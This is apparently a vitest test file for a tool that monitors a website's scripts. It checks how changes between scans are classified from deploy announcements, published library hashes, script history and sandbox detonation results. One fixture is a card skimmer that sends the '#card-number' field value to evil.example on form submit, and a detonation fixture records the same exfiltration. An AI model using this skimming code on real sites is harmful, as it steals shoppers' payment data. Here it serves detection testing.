// Further inputs of a comparison of scans: knowledge of contents, earlier contents, and the laboratory.
import { describe, expect, it } from 'vitest'
import { type ContentAsked, type ContentKnowledge, publishedKnowledge } from '#changes/index.ts'
import type { Detonation } from '#detection/index.ts'
import { sha256Hex } from '#shared/sha256.ts'
import { compareVisited, told, type Visit } from '../../helpers/compare.ts'
import { makeBodies, makeScript } from '../../helpers/make-capture.ts'
import { readModule } from '../../helpers/read-module.ts'

const bodies = makeBodies()
const app = 'https://shop.example/app.js'
const tag = 'https://tags.vendor.example/t.js'
const visit = (url: string | null, text: string): Visit => ({ capture: { scripts: [makeScript(bodies, { url, text })] }, bodies })
const none: Visit = { capture: { scripts: [] }, bodies }
const unread = (of: Visit): Visit => ({ ...of, forgets: true })

const sum = 'function total(items) { return items.reduce(function (a, b) { return a + b.price }, 0) } window.total = total'
const contacts = `${sum}; fetch('https://new.partner.example/' + total([]))`
const steals = `${sum}; document.addEventListener('submit', function () { navigator.sendBeacon('https://evil.example/c', document.querySelector('#card-number').value) })`
const nothing: ContentKnowledge = { release: null, contentAccounts: 0, addressAccounts: 0, deploy: null, authorized: false }
const deploy = { commit: 'abc1234', announcedAt: '2026-11-23T08:00:00.000Z' }
const known = (given: Partial<ContentKnowledge>) => ({ knowledgeOf: () => ({ ...nothing, ...given }) })

describe('knowledge of a content', () => {
  it('is requested by hash, address, and host from the later scan', () => {
    const asked: ContentAsked[] = []
    const knowledgeOf = (content: ContentAsked) => {
      asked.push(content)
      return null
    }
    compareVisited(visit(tag, sum), visit(tag, contacts), { knowledgeOf })
    compareVisited(visit(null, 'a = "one"'), visit(null, 'a = "two"'), { knowledgeOf })
    expect(asked).toEqual([
      { sha256: sha256Hex(contacts), address: tag, host: 'tags.vendor.example' },
      { sha256: sha256Hex('a = "two"'), address: null, host: null },
    ])
  })

  it('marks an announced change or new script as a deploy, for the site alone', () => {
    expect(told(compareVisited(visit(app, sum), visit(app, contacts), known({ deploy })))[0]).toMatch(
      /^script-changed deploy: announced-deploy/,
    )
    expect(told(compareVisited(none, visit(app, contacts), known({ deploy })))).toEqual([
      'script-added deploy: script-added announced-deploy',
    ])
    expect(compareVisited(visit(tag, sum), visit(tag, contacts), known({ deploy })).summary.alert).toBe(true)
    expect(compareVisited(none, visit(app, steals), known({ deploy })).changes[0]).toMatchObject({ verdict: 'malicious' })
  })

  it('marks an authorized address as targeted if it serves others something else', () => {
    const only = known({ authorized: true, addressAccounts: 4 })
    expect(compareVisited(visit(tag, sum), visit(tag, `${sum}; window.more = total`), only).changes[0]).toMatchObject({
      verdict: 'targeted',
      reasons: [
        { code: 'nobody-else', sentence: 'Pages in 4 other accounts load a script from this address, and none of them gets this content.' },
      ],
    })
    expect(compareVisited(visit(app, sum), visit(app, `${sum}; window.more = total`), only).summary.alert).toBe(false)
  })

  it('leaves a new third-party script at alert level, whoever else receives it', () => {
    expect(told(compareVisited(none, visit(tag, 'var t = 2'), known({ contentAccounts: 9 })))[0]).toMatch(
      /^script-added capability: .*third-party$/,
    )
  })
})

describe('the published file of a library', () => {
  const jquery = readModule('jquery/dist/jquery.min.js')
  const byHash = { knowledgeOf: ({ sha256 }: ContentAsked) => publishedKnowledge(sha256) }

  it('is known by its bytes alone, so its first appearance is a release, with its name', () => {
    const [change] = compareVisited(none, visit(app, jquery), byHash).changes
    expect(change).toMatchObject({
      verdict: 'release',
      reasons: [{ code: 'script-added' }, { code: 'library-release', given: { library: 'jquery' } }],
    })
    expect(compareVisited(none, visit(app, `${jquery};`), byHash).changes[0]?.verdict).not.toBe('release')
  })

  it('is known even if its code is unavailable, and nothing else is', () => {
    expect(told(compareVisited(unread(visit(app, sum)), unread(visit(app, jquery)), byHash))).toEqual([
      'script-changed release: library-release',
    ])
    expect(told(compareVisited(unread(visit(app, sum)), unread(visit(app, contacts)), known({ contentAccounts: 9 })))).toEqual([
      'script-changed capability: not-judged',
    ])
  })
})

describe('earlier contents of a script', () => {
  const page = (slot: string, mode: string) => `window.shop = init('${slot}', '${mode}'); function init(a, b) { return [a, b] }`
  const history = [page('north', 'calm'), page('south', 'calm'), page('west', 'calm')]
  const historyOf = () => history
  const change = (before: string, after: string, given: Parameters<typeof compareVisited>[2] = { historyOf }) =>
    compareVisited(visit(null, before), visit(null, after), given).changes.map(({ verdict }) => verdict)

  it('mark a word that differed each time as volatile, and it would raise an alert without them', () => {
    expect(change(page('east', 'calm'), page('north-east', 'calm'))).toEqual(['volatile'])
    expect(change(page('east', 'calm'), page('north-east', 'calm'), {})).toEqual(['capability'])
  })

  it('do not mark the first change of a constant word as volatile', () => {
    expect(change(page('east', 'calm'), page('east', 'storm'))).toEqual(['capability'])
  })

  it('do not hide a host behind a volatile word', () => {
    expect(change(page('east', 'calm'), page('https://evil.example/', 'calm'))).toEqual(['capability'])
  })

  it('are the last five; earlier differences do not count', () => {
    const old = [page('north', 'calm'), page('south', 'calm'), ...Array.from({ length: 5 }, () => page('east', 'calm'))]
    expect(change(page('east', 'calm'), page('west', 'calm'), { historyOf: () => old })).toEqual(['capability'])
  })
})

describe('behavior of a content in the laboratory', () => {
  const took: Detonation = {
    version: 1,
    outcome: 'ran',
    why: null,
    durationMs: 900,
    gates: [],
    behaviours: [
      { kind: 'reads-field', field: 'card', how: 'value', gate: null },
      { kind: 'sends', what: 'card', to: 'evil.example', way: 'fetch', encoding: 'plain', gate: null },
    ],
  }
  const detonationOf = (sha256: string) => (sha256 === sha256Hex(contacts) ? took : null)

  it('marks a change or a new script as malicious even if its code shows nothing', () => {
    expect(compareVisited(visit(app, sum), visit(app, contacts)).changes[0]).toMatchObject({ verdict: 'capability' })
    expect(compareVisited(visit(app, sum), visit(app, contacts), { detonationOf }).changes[0]).toMatchObject({
      verdict: 'malicious',
      reasons: expect.arrayContaining([expect.objectContaining({ code: 'judged-malicious' })]),
    })
    expect(compareVisited(none, visit(app, contacts), { detonationOf }).changes[0]).toMatchObject({ verdict: 'malicious' })
  })

  it('is not attributed to another content', () => {
    expect(compareVisited(visit(app, contacts), visit(app, sum), { detonationOf }).summary.alert).toBe(false)
  })
})
